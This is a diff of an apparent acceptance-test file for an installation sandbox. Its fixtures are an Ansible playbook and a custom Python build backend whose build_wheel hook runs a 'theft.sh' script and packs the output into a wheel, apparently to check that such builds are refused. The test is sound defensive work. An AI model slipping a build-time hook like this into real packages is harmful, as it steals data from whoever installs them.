@@ -14,6 +14,7 @@ from tests.acceptance.installation import Installation, Refused, until
 from tests.acceptance.spine import assert_no_other_hosts, served
 from tests.acceptance.traffic import Traffic
 from tests.adapters.git_support import Repository
+from tests.adapters.test_ansible_builds import PROJECT
 
 THEFT = r"""
 exec 2>/dev/null
@@ -36,7 +37,7 @@ PLAYBOOK = """
 - hosts: all
   gather_facts: false
   tasks:
-    - command: "{{ ansible_playbook_python }} -m thief"
+    - command: "{{ ansible_playbook_python }} -m evil"
       delegate_to: localhost
       register: build
     - command: "bash {{ playbook_dir }}/theft.sh"
@@ -54,29 +55,20 @@ BACKEND = """
 import os, subprocess, zipfile
 
 FILES = {
-    "thief.py": "print(%r)",
-    "thief-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: thief\\nVersion: 1.0\\n",
-    "thief-1.0.dist-info/WHEEL":
+    "evil.py": "print(%r)",
+    "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n",
+    "evil-1.0.dist-info/WHEEL":
         "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
-    "thief-1.0.dist-info/RECORD": "",
+    "evil-1.0.dist-info/RECORD": "",
 }
 
 def build_wheel(directory, config_settings=None, metadata_directory=None):
     found = subprocess.run(["bash", "theft.sh"], capture_output=True, text=True).stdout
-    name = "thief-1.0-py3-none-any.whl"
+    name = "evil-1.0-py3-none-any.whl"
     with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:
         for path, text in FILES.items():
             archive.writestr(path, text % found if "%" in text else text)
     return name
-"""
-PROJECT = """
-[build-system]
-requires = []
-build-backend = "backend"
-backend-path = ["."]
-[project]
-name = "thief"
-version = "1.0"
 """
 
 
